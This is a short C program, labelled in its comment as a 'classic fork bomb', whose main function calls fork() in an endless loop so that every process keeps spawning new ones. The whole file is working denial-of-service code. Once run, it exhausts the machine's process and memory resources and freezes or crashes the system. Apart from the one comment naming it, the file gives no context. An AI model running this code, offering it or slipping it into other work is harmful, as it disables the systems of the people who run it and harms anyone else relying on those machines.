// Classic fork bomb: every process forks forever.
#include <unistd.h>
int main() {
  for (;;) fork();
}
